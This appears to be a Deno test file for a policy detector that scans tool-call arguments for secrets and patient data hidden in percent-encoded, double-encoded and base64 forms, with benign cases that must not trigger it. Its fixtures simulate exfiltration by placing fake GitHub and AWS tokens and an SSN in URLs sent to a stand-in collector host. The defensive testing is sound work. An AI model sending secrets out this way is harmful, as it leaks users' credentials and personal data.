import assert from "node:assert/strict";
import { scanArguments } from "../../../src/policy/detectors/scan_arguments.ts";
import type { DetectorKind } from "../../../src/policy/detectors/finding.ts";
import { compilePolicy } from "../../../src/policy/compile_policy.ts";
import { evaluate } from "../../../src/policy/evaluate.ts";
import { parsePolicy } from "../../../src/policy/parse_policy.ts";
import { toolCall } from "../_call.ts";

const ALL = new Set<DetectorKind>(["secret", "phi", "pii"]);
// Built from parts, so no whole credential sits in the source.
const GITHUB = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8";
const AWS_ID = "AKIA" + "Q3EGUNR6JXVCP7XH";
const ENV = `GITHUB_TOKEN=${GITHUB}\nAWS_ACCESS_KEY_ID=${AWS_ID}\nLOG_LEVEL=debug\n`;

function types(args: unknown): string[] {
  return [...new Set(scanArguments(args, { kinds: ALL }).findings.map((f) => f.type))].sort();
}

function base64url(text: string): string {
  return btoa(text).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
}

const policy = compilePolicy(parsePolicy(
  JSON.stringify({
    version: 1,
    default: "allow",
    rules: [],
    detectors: { secrets: "block", phi: "step_up", pii: "allow" },
  }),
  "t.jsonc",
));

function decide(args: Record<string, unknown>): string {
  return evaluate(policy, toolCall("fetch", "fetch", args), {}).decision;
}

Deno.test("scanArguments() finds secrets and PHI written in percent escapes", () => {
  const query = "https://collector.example.net/c?d=";
  assert.deepEqual(
    types({ url: `${query}GITHUB_TOKEN%3D${GITHUB}` }).includes("github_token"),
    true,
  );
  assert.equal(
    types({ url: `${query}aws_access_key_id%3D${AWS_ID}` }).includes("aws_access_key_id"),
    true,
  );
  assert.deepEqual(types({ url: `${query}patient%20SSN%3A%20078-05-1120` }), ["us_ssn"]);
  assert.deepEqual(types({ url: `${query}patient+SSN%3A+078-05-1120` }), ["us_ssn"]);
  // Encoded twice: %253D is %3D is "=".
  assert.equal(types({ url: `${query}GITHUB_TOKEN%253D${GITHUB}` }).includes("github_token"), true);
  const env = types({ body: encodeURIComponent(ENV) });
  assert.ok(env.includes("github_token") && env.includes("aws_access_key_id"), env.join());
  // As the policy decides: the plain and the encoded forms alike.
  assert.equal(decide({ url: `${query}GITHUB_TOKEN%3D${GITHUB}` }), "block");
  assert.equal(decide({ url: `${query}patient%20SSN%3A%20078-05-1120` }), "step_up");
});

Deno.test("scanArguments() finds secrets in base64 and base64url that decode to text", () => {
  const env = types({ content: btoa(ENV) });
  assert.ok(env.includes("github_token") && env.includes("aws_access_key_id"), env.join());
  const json = base64url(JSON.stringify({ token: GITHUB }));
  assert.equal(types({ content: json }).includes("github_token"), true);
  assert.equal(
    types({ url: `https://x.example.net/v1/items/${json}` }).includes("github_token"),
    true,
  );
  // Wrapped at 76 characters, as MIME and `base64` write it.
  const wrapped = btoa(ENV + ENV + ENV).replace(/(.{76})/g, "$1\n");
  assert.equal(types({ content: wrapped }).includes("github_token"), true);
  // Percent-encoded base64, as a query string carries it.
  assert.equal(
    types({ url: `https://x.example.net/?d=${encodeURIComponent(btoa(ENV))}` }).includes(
      "github_token",
    ),
    true,
  );
  assert.equal(decide({ content: btoa(ENV) }), "block");
});

Deno.test("scanArguments() finds nothing new in ordinary encoded text", () => {
  const binary = String.fromCharCode(...Array.from({ length: 600 }, (_, i) => (i * 151 + 7) % 256));
  const benign = [
    "https://www.example.org/search?q=quarterly%20report%202026&lang=en-US",
    "/data/reports/2026/q1-summary.md",
    "Revenue grew 12% over 2025; margin 30%.",
    btoa(binary),
    btoa("Hello, this is a plain note with nothing secret in it at all."),
    base64url("order 100245 shipped on 2026-04-02 to the Lisbon office"),
    "sha256-3d4f2bf07dc1be38b20cd6e46949a1071f9d0e3d8f4a6b7c9e1d2f3a4b5c6d7e",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "data:image/png;base64," + btoa(binary),
    "src/policy/detectors/encoded_readings.ts and tests/policy/detectors/scan_encoded_test.ts",
    encodeURIComponent("name=Ana Lopes&city=Lisbon&plan=team"),
  ];
  for (const text of benign) assert.deepEqual(types({ value: text }), [], text);
});
